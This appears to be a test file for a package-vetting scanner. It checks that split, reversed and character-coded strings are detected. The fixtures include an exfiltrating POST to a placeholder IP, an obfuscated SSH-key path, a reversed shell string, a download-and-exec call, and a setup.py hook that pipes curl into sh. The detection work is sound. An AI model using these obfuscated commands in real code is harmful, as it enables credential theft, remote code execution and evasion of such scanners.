"""Built strings go through the detectors string literals go through, in any file the walker reads."""

from __future__ import annotations

from featurepkgs import make_archive
from vetpy.features.extract import extract_features
from vetpy.features.source.scan import scan_source

SPLIT = (
    'import requests\nURL = "ht" + "tp://" + "203.0.113.9:8080/c"\n'
    'requests.post(URL, data=open("a").read())\n'
)


def test_a_split_url_is_found_with_its_line() -> None:
    facts = scan_source("m.py", SPLIT)
    assert [(line, hit.host) for line, hit in facts.urls] == [(2, "203.0.113.9")]


def test_reversed_and_character_coded_strings_reach_the_path_and_shell_detectors() -> None:
    src = (
        "import os\n"
        'k = "".join(map(chr, [126, 47, 46, 115, 115, 104, 47, 105, 100, 95, 114, 115, 97]))\n'
        'c = "i- hs/nib/"[::-1]\n'
    )
    facts = scan_source("m.py", src)
    assert facts.counts.get("code.credential_read") == 1
    assert facts.examples["code.credential_read"][0].line == 2
    assert facts.counts.get("code.reverse_shell") == 1
    assert "decoded:folded" in facts.tokens


def test_a_computed_attribute_or_module_name_is_the_call_it_spells() -> None:
    src = 'import os\ngetattr(os, "sys" + "tem")("id")\n__import__("sub" + "process").call(["id"])\n'
    facts = scan_source("m.py", src)
    assert facts.counts.get("code.os_system") == 1
    assert facts.counts.get("code.subprocess") == 1
    assert "call:os.system" in facts.tokens and "call:subprocess.call" in facts.tokens


def test_dunder_import_of_a_dotted_name_returns_its_top_package() -> None:
    """``__import__("urllib.request")`` is the ``urllib`` package: ``.request.urlopen`` after it is
    urllib.request.urlopen (a download run at import time); with a fromlist it is the submodule."""
    src = "exec(__import__('urllib.request').request.urlopen('http://203.0.113.9/x').read().decode())\n"
    facts = scan_source("m.py", src)
    assert "call:urllib.request.urlopen" in facts.tokens
    assert facts.counts.get("code.download_exec", 0) >= 1
    assert "code.download_exec" in facts.import_time
    sub = scan_source("m.py", "__import__('os.path', fromlist=['join']).join('a', 'b')\n")
    assert "call:os.path.join" in sub.tokens
    top = scan_source("m.py", "__import__('os.path').path.join('a', 'b')\n")
    assert "call:os.path.join" in top.tokens


def test_what_a_literal_already_shows_is_not_counted_twice() -> None:
    apart = scan_source("m.py", 'p = "~/.ssh/"\nq = "id_rsa"\nu = "https://files.acme-widgets.net/a"\n')
    built = scan_source("m.py", 'p = "~/.ssh/" + "id_rsa"\nu = "https://files.acme-widgets.net/a" + "/b"\n')
    assert built.counts.get("code.credential_read") == apart.counts.get("code.credential_read") == 2
    assert len(built.urls) == len(apart.urls) == 1


def test_plain_code_gains_nothing() -> None:
    src = (
        'import os\nname = "report"\npath = os.path.join("out", name + ".txt")\n'
        'msg = "a" + "b" * 3\nn = (1 << 4) + 2\n'
    )
    facts = scan_source("m.py", src)
    assert not facts.urls
    assert not [t for t in facts.tokens if t.startswith(("decoded:", "script:"))]
    assert set(facts.counts) <= {"code.dynamic_getattr"}


def test_a_name_bound_twice_is_not_a_constant() -> None:
    src = 'import requests\nH = "evil.example"\nH = input()\nrequests.get("ht" + "tp://" + H)\n'
    facts = scan_source("m.py", src)
    assert not [h for _, h in facts.urls if h.host == "evil.example"]


def test_an_install_hook_built_from_character_codes_is_seen_in_setup_py() -> None:
    codes = ", ".join(str(ord(c)) for c in "curl http://198.51.100.7/x.sh | sh")
    setup = (
        "import os\n"
        f'os.system("".join(map(getattr(__builtins__, "c" + "hr"), [{codes}])))\n'
        "from setuptools import setup\nsetup(name='demo')\n"
    )
    f = extract_features(make_archive({"setup.py": setup}))
    assert f.values["install.setup_suspicious"] > 0
    assert f.values["code.download_exec"] > 0
    assert "decoded:folded" in f.code_text.split()
